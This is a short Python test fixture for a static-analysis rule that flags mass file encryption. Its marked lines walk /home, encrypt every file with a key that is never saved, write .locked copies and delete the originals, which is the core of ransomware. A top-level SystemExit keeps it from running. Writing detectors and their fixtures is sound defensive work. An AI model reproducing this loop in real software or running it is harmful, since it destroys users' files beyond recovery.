"""Fixture for python.crypto.mass_encrypt: `ruleid` lines must produce it, `ok` lines must not."""

raise SystemExit("codeward rule fixture: read by the analyzer, never run")

import os

from cryptography.fernet import Fernet

cipher = Fernet(Fernet.generate_key())
for root, dirs, files in os.walk("/home"):
    for name in files:
        path = os.path.join(root, name)
        with open(path, "rb") as original:
            data = original.read()
        with open(path + ".locked", "wb") as locked:
            # ruleid: python.crypto.mass_encrypt
            locked.write(cipher.encrypt(data))
        # ruleid: python.crypto.mass_encrypt
        os.remove(path)
# ok: python.crypto.mass_encrypt
token = cipher.encrypt(b"one message")
